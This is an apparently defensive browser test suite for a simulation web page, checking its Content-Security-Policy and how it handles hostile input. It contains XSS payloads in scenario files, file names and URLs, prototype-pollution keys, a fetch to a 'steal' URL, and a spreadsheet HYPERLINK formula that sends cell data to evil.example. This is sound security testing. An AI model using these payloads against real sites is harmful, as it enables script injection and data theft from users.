import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { csvParse, type DSVRowArray } from 'd3-dsv';
import type { Page, Route } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { cspText } from '../../src/build/csp';
import fc from 'fast-check';
import { ARTICLES, BYTES_PER_TRIAL, RUN_COPIES, defaultLevers, describeAllowed, leverSpec, parseLeverText, simulate, summarize, type Levers } from '../../src/engine';
import { DIST, SHOTS, browserSession, expectAccessible, runId, settled } from './harness';

/**
 * The page against an attacker and a careless user: a strict Content-Security-Policy, scenario files
 * and links that carry script, workers that crash or hang, runs too big for the device, cancelled
 * runs. Every attempt must run nothing, lose nothing and leave no result on screen for other inputs.
 */

const session = browserSession();
const { consoleErrors } = session;

/** Elements that only a payload's markup could have made. */
const INJECTED = 'img, iframe, object, embed, script:not([src]), svg[onload], [onerror], [onload], a[href^="javascript:"]';

/** Set by any payload that manages to run. */
const PWNED = '__pwned';

interface Opened {
  page: Page;
  dialogs: string[];
}

async function open(query: string, opts: { before?: (page: Page) => Promise<void> } = {}): Promise<Opened> {
  const page = await session.track();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await opts.before?.(page);
  await page.goto(session.url + query);
  await settled(page, null);
  return { page, dialogs };
}

const pwned = (page: Page) => page.evaluate((k) => (window as unknown as Record<string, unknown>)[k], PWNED);

function expectedP(levers: Partial<Levers>, seed = '1', trials = 10_000): number {
  const { model, results } = simulate({ ...defaultLevers(), ...levers }, { seed, trials });
  return summarize(model, results, seed).pResumption;
}

async function typeLever(page: Page, key: string, value: string): Promise<void> {
  await page.fill(`#lever-${key}-text`, value);
  await page.press(`#lever-${key}-text`, 'Enter');
}

describe('Content-Security-Policy', () => {
  test('the built page carries the policy, with no inline script and no other hosts', () => {
    const html = readFileSync(join(DIST, 'index.html'), 'utf8');
    const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
    expect(meta?.[1]).toBe(cspText());
    expect(meta![1]).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
    // Every script has a same-origin src; no inline handlers.
    for (const tag of html.match(/<script[^>]*>/g) ?? []) expect(tag).toMatch(/src="\/assets\/[\w.-]+\.js"/);
    expect(html).not.toMatch(/\son\w+=/i);
  });

  test('the policy is enforced: injected inline script and handlers, string timers (eval) and requests to other hosts are all blocked', async () => {
    const { page } = await open('?v=1&seed=csp-probe');
    const outcome = await page.evaluate(async (k) => {
      const w = window as unknown as Record<string, unknown>;
      const s = document.createElement('script');
      s.textContent = `window.${k} = 'inline script'`;
      document.body.appendChild(s);
      const div = document.createElement('div');
      div.innerHTML = `<img src="data:," onerror="window.${k}='inline handler'">`;
      // The inline handler, had it been allowed, runs before a listener added after it.
      const imgFailed = new Promise((r) => div.querySelector('img')!.addEventListener('error', r, { once: true }));
      document.body.appendChild(div);
      // A string timer is the page's own eval (the test's evaluate() itself is exempt, being DevTools).
      (setTimeout as unknown as (code: string, ms: number) => void)(`window.${k} = 'string timer'`, 0);
      // Timers of the same delay fire in order: once this one has, the string timer has had its turn.
      const timerTurnPassed = new Promise((r) => setTimeout(r, 0));
      let fetchBlocked = false;
      try {
        await fetch('https://example.org/steal');
      } catch {
        fetchBlocked = true;
      }
      await Promise.all([imgFailed, timerTurnPassed]);
      return { ran: w[k] ?? null, fetchBlocked };
    }, PWNED);
    expect(outcome).toEqual({ ran: null, fetchBlocked: true });
    expect(session.foreignRequests()).toEqual([]);
    await page.close();
  });
});

describe('no code from data', () => {
  const title = `=HYPERLINK("https://evil.example/?"&A1,"x")<img src=x onerror="window.${PWNED}='title'">`;
  const hostile = {
    id: 'hostile',
    title,
    summary: `<script>window.${PWNED}='summary'</script><b>bold?</b><iframe src="javascript:window.${PWNED}='iframe'"></iframe>`,
    sources: [{ file: ARTICLES[0].file, claim: `<svg onload="window.${PWNED}='claim'"></svg><a href="javascript:window.${PWNED}='link'">click</a>` }],
    levers: { euTroops: 90_000 },
    notes: { euTroops: `<img src=x onerror="window.${PWNED}='note'">` },
  };

  test('a scenario file carrying script and HTML is shown as text and runs nothing', async () => {
    const { page, dialogs } = await open('?v=1');
    const before = await runId(page);
    await page.setInputFiles('[data-testid=import-scenario]', {
      name: '<img src=x onerror=alert(1)>.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(hostile)),
    });
    await settled(page, before);
    const panel = page.locator('[data-testid=loaded-scenario]');
    await panel.locator('summary').click();
    const text = await panel.innerText();
    expect(text).toContain(title);
    expect(text).toContain(hostile.summary);
    expect(text).toContain(hostile.sources[0].claim);
    expect(text).toContain(hostile.notes.euTroops);
    // No element came from the file's markup, anywhere on the page.
    expect(await page.locator(INJECTED).count()).toBe(0);
    expect(await page.locator('b', { hasText: 'bold?' }).count()).toBe(0);
    expect(await page.innerText('[data-testid=saved-scenarios]')).toContain(title);
    // The lever it sets did apply: the file's data is used as data.
    expect(await page.inputValue('#lever-euTroops-text')).toBe('90000');
    // Exported CSVs carry the title formula-neutralised, RFC 4180-quoted, and it parses back exactly.
    for (const [id, cell] of [
      ['download-trials', (rows: DSVRowArray) => rows[0].scenario],
      ['download-summary', (rows: DSVRowArray) => rows.find((r) => r.metric === 'scenario')?.value],
    ] as const) {
      const [dl] = await Promise.all([page.waitForEvent('download'), page.click(`[data-testid=${id}]`)]);
      const rows = csvParse(readFileSync(await dl.path(), 'utf8'));
      expect(cell(rows)).toBe(`'${title}`);
      expect(rows.every((r) => Object.keys(r).length === rows.columns.length)).toBe(true);
    }
    await page.screenshot({ path: join(SHOTS, 'hostile-scenario.png'), fullPage: true });
    // Reloaded from the local store, it is still text.
    await page.reload();
    await settled(page, null);
    expect(await page.innerText('[data-testid=saved-scenarios]')).toContain(title);
    expect(await page.locator(INJECTED).count()).toBe(0);
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    await page.close();
  });

  test('a failed import with a hostile file name shows the name as text', async () => {
    const { page, dialogs } = await open('?v=1');
    await page.setInputFiles('[data-testid=import-scenario]', {
      name: '<img src=x onerror=alert(1)>.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify({ ...hostile, levers: { '<script>': 1, __proto__: { polluted: 1 } } })),
    });
    const err = await page.innerText('[data-testid=import-error]');
    expect(err).toContain('<img src=x onerror=alert(1)>.json');
    expect(err).toContain('unknown lever "<script>"');
    expect(await page.locator(INJECTED).count()).toBe(0);
    expect(await page.evaluate(() => ({}) as Record<string, unknown>)).toEqual({});
    expect(await page.evaluate(() => (Object.prototype as Record<string, unknown>).polluted)).toBeUndefined();
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    await page.close();
  });

  test('a link carrying script in its values and keys runs nothing; bad fields are named as text', async () => {
    const seed = `<img src=x onerror=window.${PWNED}=1>`;
    const q = new URLSearchParams({ v: '1', seed, euPosture: `<script>window.${PWNED}=2</script>`, trials: '1e3"><script>' });
    const query = `?${q.toString()}&%3Csvg%2Fonload%3Dalert(3)%3E=1&__proto__=x&constructor=y#javascript:alert(4)`;
    const { page, dialogs } = await open(query);
    const err = await page.innerText('[data-testid=url-error]');
    expect(err).toContain('euPosture');
    expect(err).toContain('<script>');
    expect(err).toContain('unknown lever "<svg/onload=alert(3)>"');
    expect(err).toContain('unknown lever "__proto__"');
    expect(err).toContain('trials');
    // The seed is valid text: it is used, and shown as text.
    expect(await page.innerText('[data-testid=headline]')).toContain(seed);
    expect(await page.getAttribute('[data-testid=headline]', 'data-p-resumption')).toBe(String(expectedP({}, seed)));
    expect(await page.locator(INJECTED).count()).toBe(0);
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    await page.screenshot({ path: join(SHOTS, 'hostile-link.png') });
    await expectAccessible(page, 'hostile link');
    await page.close();
  });
});

describe('typed input', () => {
  test('property: whatever is typed into a number box, the page keeps a valid value or names the field and range', async () => {
    // 1,000 trials: every valid value typed starts a run, and the runs are beside the point here.
    const { page } = await open('?v=1&trials=1000');
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    const boxes = [
      { sel: '#lever-euTroops-text', spec: leverSpec('euTroops')! },
      { sel: '#lever-usCredibility-text', spec: leverSpec('usCredibility')! },
    ];
    const typed = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.constantFrom('1e999', '-0', '0x1F', 'Infinity', 'NaN', '', ' ', '١٢٣', '１２', '50,000', '30_000', '1e5', '.5', '-1', '<b>1</b>', '=1+1', '9'.repeat(400)),
      fc.double().map(String),
      fc.integer({ min: -1e6, max: 1e6 }).map(String),
    );
    let cases = 0;
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...boxes), typed, async ({ sel, spec }, text) => {
        cases++;
        const slider = `#lever-${spec.key}`;
        const sliderBefore = await page.inputValue(slider);
        await page.fill(sel, text);
        await page.press(sel, 'Enter');
        const expected = parseLeverText(spec, text);
        const invalid = await page.getAttribute(sel, 'aria-invalid');
        if (expected.ok) {
          expect(invalid).toBeNull();
          expect(await page.inputValue(sel)).toBe(String(expected.value));
        } else {
          expect(invalid).toBe('true');
          const msg = await page.innerText(`[data-lever=${spec.key}] .error`);
          expect(msg).toContain(`${spec.key}:`);
          expect(msg).toContain(describeAllowed(spec));
          // Nothing entered is lost: what was typed stays in the box, the lever keeps its last valid value.
          expect(await page.inputValue(sel)).toBe(text);
          expect(await page.inputValue(slider)).toBe(sliderBefore);
        }
      }),
      // 60 cases: this checks the page's wiring of the check to the box (the message, the kept text, the
      // slider); parseLeverText itself is fuzzed over thousands of cases in test/fuzz/leverText.test.ts.
      { numRuns: 60, seed: 2026 },
    );
    expect(cases).toBe(60);
    expect(pageErrors).toEqual([]);
    expect(await pwned(page)).toBeUndefined();
    await page.close();
  });
});

/**
 * Serve each simulation worker through a wrapper module that imports the real one and then
 * misbehaves on cue: the first worker loaded crashes on its first run (`crashFirst`), any worker
 * crashes on a run with euTroops = 123,456 and goes silent on one with euTroops = 111,111.
 */
async function sabotageWorkers(page: Page, pattern: string, crashFirst: boolean): Promise<{ loads: () => number }> {
  let loads = 0;
  await page.route(`**/assets/${pattern}-*.js*`, async (route: Route) => {
    const url = new URL(route.request().url());
    if (url.searchParams.has('real')) return route.continue();
    loads++;
    const crashOnFirst = crashFirst && loads === 1;
    const body = `
      import ${JSON.stringify(url.pathname + '?real')};
      const real = self.onmessage;
      let first = ${crashOnFirst};
      self.onmessage = (e) => {
        const levers = e.data && e.data.levers;
        if (e.data.type !== 'cancel' && first) { first = false; throw new Error('simulated crash'); }
        if (levers && levers.euTroops === 123456) throw new Error('simulated crash on these inputs');
        if (levers && levers.euTroops === 111111) return; // hangs: never answers
        return real.call(self, e);
      };`;
    return route.fulfill({ status: 200, contentType: 'text/javascript', body });
  });
  return { loads: () => loads };
}

describe('faults and limits', () => {
  test('a crashed simulation worker is restarted, the page says so, and the results are complete', async () => {
    let sab: { loads: () => number } | undefined;
    const { page } = await open('?v=1&workers=1&seed=crash', { before: async (p) => void (sab = await sabotageWorkers(p, 'sim.worker', true)) });
    const notice = await page.innerText('[data-testid=worker-notice]');
    expect(notice).toContain('A simulation worker stopped');
    expect(notice).toContain('simulated crash');
    expect(notice).toContain('restarted');
    expect(sab!.loads()).toBe(2);
    expect(await page.getAttribute('[data-testid=headline]', 'data-p-resumption')).toBe(String(expectedP({}, 'crash')));
    await page.screenshot({ path: join(SHOTS, 'hostile-worker-restarted.png') });

    // Inputs that crash every worker: the run fails with the reason and the old results leave the screen.
    await typeLever(page, 'euTroops', '123456');
    await page.waitForSelector('.error[role=alert]');
    await settled(page, null, { allowNone: true });
    expect(await page.innerText('.error[role=alert]')).toContain('a simulation worker failed twice on this run');
    expect(await page.locator('[data-testid=headline]').count()).toBe(0);
    expect(await page.innerText('[data-testid=no-results]')).toContain('No results for the current inputs');
    await page.screenshot({ path: join(SHOTS, 'hostile-worker-failed.png') });

    // Other inputs run again on fresh workers, and the page recovers.
    await typeLever(page, 'euTroops', '100000');
    await settled(page, null);
    expect(await page.getAttribute('[data-testid=headline]', 'data-p-resumption')).toBe(String(expectedP({ euTroops: 100_000 }, 'crash')));
    expect(await page.locator('.error[role=alert]').count()).toBe(0);
    await page.close();
  });

  test('cancelling a run never leaves results for other inputs on screen; a cancelled preview is labelled', async () => {
    const { page } = await open('?v=1&workers=1&seed=cancel&trials=20000', { before: async (p) => void (await sabotageWorkers(p, 'sim.worker', false)) });
    expect(await page.innerText('[data-testid=status]')).toContain('20,000');
    // A run that hangs: the previous results stay while it is "updating", then Cancel clears them.
    await typeLever(page, 'euTroops', '111111');
    await page.click('[data-testid=cancel-run]');
    await settled(page, null, { allowNone: true });
    expect(await page.innerText('[data-testid=cancelled]')).toBe('Run cancelled.');
    expect(await page.locator('[data-testid=headline]').count()).toBe(0);
    expect(await page.locator('[data-chart] svg').count()).toBe(0);
    expect(await page.innerText('[data-testid=no-results]')).toContain('the run was cancelled');
    await page.screenshot({ path: join(SHOTS, 'hostile-cancelled.png') });

    // A big run cancelled after its preview keeps the preview, for these very inputs, labelled as such.
    await typeLever(page, 'euTroops', '90000');
    await settled(page, null);
    // 300,000 trials: past the preview's 50,000, and long enough on one worker to be cancelled.
    await page.fill('#run-trials', '300000');
    await page.press('#run-trials', 'Enter');
    await page.waitForSelector('[data-testid=preview-note]');
    await page.click('[data-testid=cancel-run]');
    await settled(page, null);
    expect(await page.innerText('[data-testid=cancelled]')).toBe('Run cancelled: showing the first 10,000 trials only.');
    expect(await page.innerText('[data-testid=preview-note]')).toContain('the full run of 300,000 trials was cancelled');
    expect(await page.getAttribute('[data-testid=headline]', 'data-p-resumption')).toBe(String(expectedP({ euTroops: 90_000 }, 'cancel')));
    // Run again finishes the full run.
    await page.click('[data-testid=rerun]');
    await page.waitForFunction(() => document.querySelector('[data-testid=headline]')?.getAttribute('data-preview') === 'false', undefined, { timeout: 60_000 });
    await settled(page, null);
    expect(await page.innerText('[data-testid=status]')).toContain('300,000');
    await page.close();
  });

  test('a crashed analysis worker is restarted and its job run again', async () => {
    // A 1-year horizon: the restart and the rerun of the job do not depend on the tornado's size.
    const { page } = await open('?v=1&workers=1&horizonYears=1', { before: async (p) => void (await sabotageWorkers(p, 'analysis.worker', true)) });
    await page.click('[data-testid=sensitivity-tab]');
    await page.selectOption('[data-testid=sens-trials]', { index: 0 });
    await page.click('[data-testid=sens-run]');
    await page.waitForSelector('[data-testid=worker-notice]');
    expect(await page.innerText('[data-testid=worker-notice]')).toContain('An analysis worker stopped');
    await page.waitForSelector('[data-testid=tornado-svg] .bar', { timeout: 90_000 });
    expect(await page.locator('[data-testid=tornado-svg] .bar').count()).toBeGreaterThan(10);
    await page.close();
  });

  test('a run too big for the device is refused before it starts, from a link and from the trials box', async () => {
    const { page } = await open('?v=1&trials=1000000', {
      before: async (p) => {
        await p.addInitScript(() => Object.defineProperty(Navigator.prototype, 'deviceMemory', { get: () => 0.25 }));
      },
    });
    const err = await page.innerText('[data-testid=url-error]');
    // A quarter of 0.25 GB of device memory, at BYTES_PER_TRIAL × RUN_COPIES a trial.
    const perTrial = BYTES_PER_TRIAL * RUN_COPIES;
    const most = (Math.floor(62.5e6 / perTrial / 1000) * 1000).toLocaleString('en-GB');
    expect(err).toContain(`trials: 1,000,000 trials need about ${Math.ceil(perTrial)} MB of memory`);
    expect(err).toContain(`expected at most ${most} trials here`);
    expect(await page.inputValue('#run-trials')).toBe('10000');
    expect(await page.innerText('[data-testid=status]')).toContain('10,000');
    await page.fill('#run-trials', '500000');
    await page.press('#run-trials', 'Enter');
    expect(await page.innerText('#run-trials ~ .error, .controls .error[role=alert]')).toContain(`expected at most ${most} trials here`);
    expect(await page.innerText('[data-testid=status]')).toContain('10,000');
    expect(await page.innerText('#run-trials-help')).toContain(`100–${most} (this device's memory; 1,000,000 elsewhere)`);
    await page.locator('#run-trials').locator('xpath=ancestor::fieldset[1]').screenshot({ path: join(SHOTS, 'hostile-memory.png') });
    await page.close();
  });

  test('no console errors but the expected ones, and no request to any host but the page', () => {
    const unexpected = consoleErrors.filter(
      (e) =>
        !e.includes('seed=csp-probe') && // the CSP probe's blocked attempts
        !/simulated crash/.test(e) && // the sabotaged workers
        !/Failed to load resource.*\/x$/.test(e),
    );
    expect(unexpected).toEqual([]);
    expect(session.foreignRequests()).toEqual([]);
  });
});
